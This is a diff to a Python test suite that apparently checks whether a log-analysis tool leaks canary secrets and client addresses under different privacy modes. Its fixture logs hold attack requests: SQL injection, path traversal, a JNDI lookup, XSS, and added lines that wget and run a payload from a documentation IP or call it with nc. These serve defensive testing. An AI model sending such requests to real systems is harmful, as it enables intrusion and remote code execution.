@@ -42,8 +42,11 @@ BEARER = "canaryBearerWithoutDigits"
 LINK = "cAnArYlInK"
 CLIENT, NETWORK = "203.0.113.77", "203.0.113."
 PLAYER = "198.51.100.99"
+VERSION = "sqlmap/1.8.2"
+# What a payload fetches its next part from.
+PAYLOAD = "198.51.100.23"
 # Numbers are searched with what people put between digits taken out.
-BETWEEN = b" -.()/\\\"'"
+BETWEEN = b" -.()/+\\\"'"
 
 MODES = [(senders, clients) for senders in ("full", "hash", "anon", "agg") for clients in ("full", "prefix", "hash")]
 FORMATS = {
@@ -83,10 +86,12 @@ def logs():
         f"/login?user={PERSON}&password={PASSWORD}&x=1%20UNION%20SELECT%201",
         f"/?next=http://ana:{PASSWORD}@evil.example/x&tel=34{NUMBER}&a=../../../../etc/passwd",
         f"/.env?token={BEARER}&to=%2B34-600-987-123",
+        "/.env?to=600%20987%20123", "/.env?to=%2B34+600+98+71+23",
+        f"/shell?cd+/tmp;wget+http://{PAYLOAD}/x;sh+x", f"/shell?nc%20{PAYLOAD}%20444",
         "/shell.php?cmd=cat%20/etc/passwd", "/?x=${jndi:ldap://a.example/x}", "/?q=<script>alert(1)</script>", "/.git/config",
         "/cgi-bin/.%2e/.%2e/bin/sh", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?id=1'%20OR%201=1--",
     ]  # fmt: skip
-    agent = f"Mozilla/5.0 (Bearer {BEARER}; {PERSON}; +34 600 987 123)"
+    agent = f"{VERSION} (Bearer {BEARER}; {PERSON}; +34 600 987 123) tel/600.987.123 tel/600987.123 x/{PAYLOAD}"
     web = [f'{CLIENT} - {PASSWORD} [{common}] "GET {target} HTTP/1.1" 404 1 "http://ana:{PASSWORD}@a.example/" "{agent}"' for target in targets]
     record = lambda target: {"ip": CLIENT, "method": "GET", "uri": target, "status": 404, "host": "shop.example", "ua": agent, "time": common, "req_time": "0.1"}
     errors = [
@@ -118,6 +123,7 @@ def forbidden(senders, clients):
     people = [("a message", WORDS), ("a password", PASSWORD), ("an e-mail address", PERSON), ("a token", BEARER), ("a link", LINK)]
     addresses = {"full": [], "prefix": [CLIENT, PLAYER], "hash": [CLIENT, PLAYER, NETWORK]}[clients]
     hidden = secrets + (people if senders != "full" else []) + [("an address", address) for address in addresses]
+    hidden += [("an address in a payload", PAYLOAD)] if senders != "full" and clients != "full" else []
     return [(what, text.encode()) for what, text in hidden], senders != "full"
 
 
@@ -158,12 +164,12 @@ class Search:
 
     def look(self, where, out, by_design=()):
         """`by_design` may stand there: it is what was asked to be explained."""
-        plain = out.translate(None, BETWEEN)
+        plain = out.replace(b"%20", b"").translate(None, BETWEEN)
         found = {what for what, text in self.hidden if text in out and text.decode() not in by_design}
         if NUMBER.encode() in plain and self.hides_number and NUMBER not in by_design:
             found.add("a number")
         self.leaks += [f"{self.mode}: {where} tells {what}" for what in sorted(found)]
-        for text in (WORDS, PASSWORD, PERSON, BEARER, LINK, CLIENT, NETWORK, CD_KEY):
+        for text in (WORDS, PASSWORD, PERSON, BEARER, LINK, CLIENT, NETWORK, CD_KEY, PAYLOAD, VERSION):
             self.seen |= {(where, text)} if text.encode() in out else set()
         self.seen |= {(where, NUMBER)} if NUMBER.encode() in plain else set()
 
@@ -256,6 +262,7 @@ def run(folder, senders, clients, running):
             done = subprocess.run(command, capture_output=True, env=environment, check=True)
             # Whoever wants a request or a login explained sees what was asked for, as it stands in the log.
             shown = (PASSWORD, PERSON, BEARER, NUMBER) if words[0] == "explain" and name in ("web", "json", "ssh") else ()
+            shown += (PAYLOAD,) if shown else ()
             search.look(f"{' '.join(words)} of {form}", done.stdout + done.stderr, shown)
     return search
 
@@ -263,7 +270,8 @@ def run(folder, senders, clients, running):
 def expect_shown(search, senders, clients):
     """What a mode allows must have been seen, or the search finds nothing."""
     feed, attacks, pushed = "/api/v1/feed?limit=500", "/api/v1/attacks?limit=500", "what was pushed"
-    wanted = []
+    wanted = [(place, VERSION) for place in (feed, attacks, pushed, f"/api/v1/clients/{CLIENT}", "/api/v1/attacks?by=class")]
+    wanted += [(attacks, PAYLOAD), (feed, PAYLOAD)] if clients == "full" or senders == "full" else []
     if senders == "full":
         wanted += [(feed, NUMBER), (feed, WORDS), (pushed, WORDS), (pushed, NUMBER), (attacks, PASSWORD), (attacks, PERSON), (attacks, BEARER)]
         wanted += [("/api/v1/errors", NUMBER), ("/api/v1/errors", LINK), ("/api/v1/errors", PERSON), (feed, PASSWORD), ("explain of whatsapp_bot", WORDS)]
